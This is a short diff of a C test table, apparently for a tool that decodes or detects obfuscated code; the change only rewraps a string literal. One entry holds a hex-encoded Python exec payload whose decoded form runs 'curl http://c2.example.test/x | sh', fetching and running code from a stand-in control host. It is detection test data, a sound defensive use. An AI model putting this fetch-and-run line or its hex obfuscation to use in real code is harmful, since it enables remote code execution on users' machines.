@@ -88,7 +88,8 @@ static const struct form forms[] = {
 		"base85", 1, LW_DECODED_TEXT, 1},
 	{"bytes.fromhex", LW_LANGUAGE_PYTHON,
 		"exec(bytes.fromhex('696d706f7274206f732c20736f636b65743b206f732e73797374656d28"
-		"276375726c20687474703a2f2f63322e6578616d706c652e746573742f78207c2073682729'))", 155,
+		"276375726c20687474703a2f2f63322e6578616d706c652e746573742f78207c2073682729')"
+		")", 155,
 		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
 		"hex", 1, LW_DECODED_TEXT, 1},
 	{"hex in upper case behind 0x", LW_LANGUAGE_PYTHON,
